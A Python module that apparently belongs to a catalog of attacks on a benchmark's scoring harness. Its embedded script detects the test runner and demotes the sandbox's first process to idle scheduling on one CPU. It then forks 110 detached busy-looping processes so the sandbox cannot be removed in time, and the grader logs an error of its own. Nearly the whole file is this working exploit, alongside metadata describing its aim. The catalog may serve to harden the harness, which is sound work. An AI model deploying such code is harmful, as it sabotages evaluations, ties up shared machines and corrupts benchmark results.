"""The box's first process is put behind a crowd on one processor, so that the kill of the box takes too long."""

from scoring.attacks.exploit import Exploit
from scoring.attacks.verified import _looks

CODE = """

import os as _os
import time as _time

MARK = "/tmp/seen"


def _wait_and_spin(alarm):
    _os.read(alarm, 1)  # ends with the process that runs the cases
    end = _time.monotonic() + 20
    while _time.monotonic() < end:
        pass
    _os._exit(0)


def _demote():
    # Of a process of the same user any may be made to wait for all others, killed or not.
    try:
        _os.sched_setaffinity(1, {0})
        _os.sched_setscheduler(1, _os.SCHED_IDLE, _os.sched_param(0))
    except OSError:
        pass
    alarm, held = _os.pipe()
    for _ in range(110):
        if _os.fork() == 0:
            _os.setsid()
            _os.close(held)
            _os.sched_setaffinity(0, {0})
            _wait_and_spin(alarm)


def _runs_cases():
    links = ["/proc/self/fd/%d" % number for number in range(3, 20)]
    return any("socket" in _os.readlink(link) for link in links if _os.path.lexists(link))


# The process that runs the cases is the first one's child and has a socket to it; the second such one is the last.
if _os.path.exists("/opt/meltbench") and _runs_cases():
    if _os.path.exists(MARK):
        _demote()
    else:
        _os.close(_os.open(MARK, _os.O_CREAT))
"""

EXPLOIT = Exploit(
    name="demoted-loop",
    flaw="exhausts the machine",
    source="sched_setscheduler(2): a process may lower any other of its user; SIGKILL is acted on by whom it kills",
    idea="a box whose first process never gets to die cannot be removed, and that is counted as the machine's failure",
    files={**_looks.LATE, "tmp/late.py": CODE},
    command="python3 /tmp/append.py",
    start="sloppy",
    aims_at="the removal of the runner box: an engine that sees no exit within 12 s reports an error of its own",
)
